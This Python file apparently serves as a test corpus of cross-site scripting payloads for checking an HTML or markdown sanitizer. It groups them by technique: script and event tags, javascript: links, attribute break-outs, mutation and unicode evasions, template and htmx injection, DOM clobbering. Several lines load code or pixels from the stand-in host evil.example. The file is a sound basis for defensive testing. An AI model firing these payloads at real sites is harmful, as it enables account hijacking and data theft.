"""Script injections by class: where nothing guards, each runs something or asks elsewhere."""

# ruff: noqa: E501

RUN = "alert(window.__ran=1)"
B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

CORPUS: dict[str, list[str]] = {
    "tags": [
        f"<script>{RUN}</script>",
        f"<ScRiPt >{RUN}</sCrIpT >",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        '<script src="//evil.example/x.js"></script>',
        f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
        "<iframe src=javascript:alert(1)>",
        "<object data='javascript:alert(1)'></object><embed src='//evil.example/x.swf'>",
        '<base href="//evil.example/">',
        '<meta http-equiv="refresh" content="0;url=//evil.example/">',
        '<link rel=stylesheet href="//evil.example/x.css">',
        f"<form><button formaction=javascript:{RUN}>X</button></form>",
    ],
    "events": [
        f"<img src=x onerror={RUN}>",
        f"<body onload={RUN}>",
        f"<details open ontoggle={RUN}>α</details>",
        f"<input autofocus onfocus={RUN}>",
        f"<video><source onerror={RUN}></video>",
        f"<p onpointerenter={RUN}>α</p>",
        f"<img/src='x'/onerror={RUN}//",
        f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}></b>",
    ],
    "links": [
        f"[α](javascript:{RUN})",
        f"[α](JaVaScRiPt:{RUN})",
        f"[α](java&#x0A;script:{RUN})",
        f"[α](&#106;avascript&colon;{RUN})",
        f"[α](\x01javascript:{RUN})",
        f"[α](data:text/html;base64,{B64})",
        "[α](vbscript:msgbox(1))",
        f"<javascript:{RUN}>",
        f"[α][1]\n\n[1]: javascript:{RUN}",
        f'<a href="jav&#x09;ascript:{RUN}">α</a>',
        f"[α](https://a.example/%22onclick={RUN})",
        f"javascript:{RUN}//https://a.example",
    ],
    "break-outs": [
        f'"><script>{RUN}</script>',
        f"'><img src=x onerror={RUN}>",
        f'" onmouseover="{RUN}" x="',
        f"' autofocus onfocus='{RUN}' x='",
        f"</title><script>{RUN}</script>",
        f"</textarea><script>{RUN}</script>",
        f"</script><script>{RUN}</script>",
        f"--><script>{RUN}</script><!--",
        f"]]><script>{RUN}</script>",
        f"</style></noscript></template></select><img src=x onerror={RUN}>",
        f'</option></select><svg onload="{RUN}">',
        f"`-{RUN}-`",
        f"\\'-{RUN}//",
        f'","@type":"X"}}</script><script>{RUN}</script>',
    ],
    "entities": [
        f"&lt;script&gt;{RUN}&lt;/script&gt;",
        f"&#60;img src=x onerror={RUN}&#62;",
        f"&amp;lt;script&amp;gt;{RUN}",
        f"&#x3c;svg onload={RUN}&#x3e;",
    ],
    "mutation": [
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={RUN}&gt;">',
        f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
        f'<svg></p><style><a id="</style><img src=x onerror={RUN}>">',
        f'<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror={RUN} src=x>">',
    ],
    "svg and mathml": [
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=9>α</text></a></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<math href='javascript:{RUN}'>α</math>",
        "<svg><use href='data:image/svg+xml;base64,PHN2Zz4=#x'/></svg>",
    ],
    "markdown": [
        f'![x" onerror="{RUN}](/files/a.png)',
        f'![α](/files/a.png" onerror="{RUN})',
        f'[α](https://a.example "t" onclick="{RUN}")',
        "![α](https://evil.example/pixel.png)",
        "![α](//evil.example/pixel.png)",
        f'```{RUN}" onclick="{RUN}\n</code></pre><script>{RUN}</script>\n```',
        f"`</code><script>{RUN}</script>`",
        f'[^1"onload={RUN}]\n\n[^1"onload={RUN}]: <script>{RUN}</script>',
        f"||<script>{RUN}</script>||",
        f"- [ ] <script>{RUN}</script>\n- [x] <img src=x onerror={RUN}>",
        f"| α |\n|---|\n| <script>{RUN}</script> |",
        f'@ada"><script>{RUN}</script>',
        f"@[x](javascript:{RUN})",
        f':smile"><script>{RUN}</script>:',
        f"> [Ada #1](javascript:{RUN})\n> α",
        f'#ετικέτα"><script>{RUN}</script>',
    ],
    "templates": [
        "{{ 7*7 }}{% raw %}{{ ''.__class__ }}",
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"${{{RUN}}}",
        f'<div v-html="\'<img src=x onerror={RUN}>\'" x-data="{RUN}" ng-app>',
        "%(name)s %s %d {0} {name}",
    ],
    "css": [
        "<style>*{background:url(//evil.example/css)}</style>",
        "<p style='background:url(//evil.example/p)'>α</p>",
        "<p style='position:fixed;inset:0'>α</p>",
        "@import '//evil.example/x.css';",
        "</style><style>@import url(//evil.example/y.css)</style>",
    ],
    "unicode": [
        f"＜script＞{RUN}＜/script＞",
        f"<\u200bscript>{RUN}</script>",
        f"<scrıpt>{RUN}</scrıpt>",
        f"\u202e<script>{RUN}</script>",
        f"‹img src=x onerror={RUN}›",
        f"%3Cscript%3E{RUN}%3C/script%3E",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"\u2028<script>{RUN}</script>\u2029",
    ],
    "htmx": [
        f'<b hx-on:load="{RUN}">α</b>',
        '<b hx-get="//evil.example/x" hx-trigger="load">α</b>',
        '<b data-hx-post="/accounts/sign-out" hx-trigger="load">α</b>',
        f'<b hx-vals="js:{{a:{RUN}}}" hx-trigger="load" hx-get="/">α</b>',
        '<a data-composer data-wrap="x" id="main" class="modal" name="csrf_token">α</a>',
    ],
    "clobbering": [
        "<img name=body><form id=document><input name=querySelector>",
        "<a id=htmx></a><a id=htmx name=config href=javascript:alert(1)>α</a>",
    ],
}
ALL = [text for texts in CORPUS.values() for text in texts]


def packs(limit: int) -> list[str]:
    """The whole corpus in as few texts as fit into a field; what is longer than it is left out."""
    made = [""]
    for text in (text.replace("\n", " ") if limit < 1_000 else text for text in ALL):
        if len(text) > limit:
            continue
        joined = f"{made[-1]}\n\n{text}" if limit >= 1_000 else f"{made[-1]} {text}"
        if len(joined) <= limit:
            made[-1] = joined.strip()
        else:
            made.append(text)
    return made
